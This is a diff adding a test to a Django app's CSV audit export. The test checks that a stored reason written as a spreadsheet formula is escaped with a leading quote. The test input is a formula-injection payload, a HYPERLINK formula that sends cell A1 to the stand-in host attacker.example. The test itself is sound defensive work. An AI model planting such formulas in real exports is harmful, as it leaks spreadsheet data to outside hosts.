@@ -128,3 +128,12 @@ def test_the_csv_is_in_the_officials_language(client, named_bob, applied):
 def test_the_list_links_to_the_export_with_its_filters(client, named_bob, applied):
     html = _listed(client, named_bob, f"?petition={applied.pk}").content.decode()
     assert reverse(EXPORT) + f"?petition={applied.pk}" in html
+
+
+def test_a_reason_that_reads_as_a_formula_is_written_as_text(client, named_bob, applied):
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    lifecycle.register(applied, actor=named_bob)
+    AuditEntry.objects.filter(petition=applied).update(reason=formula)
+    rows = _csv(client, named_bob, f"?petition={applied.pk}")
+    reasons = [r[5] for r in rows[1:] if r[5]]
+    assert reasons and all(reason == "'" + formula for reason in reasons)
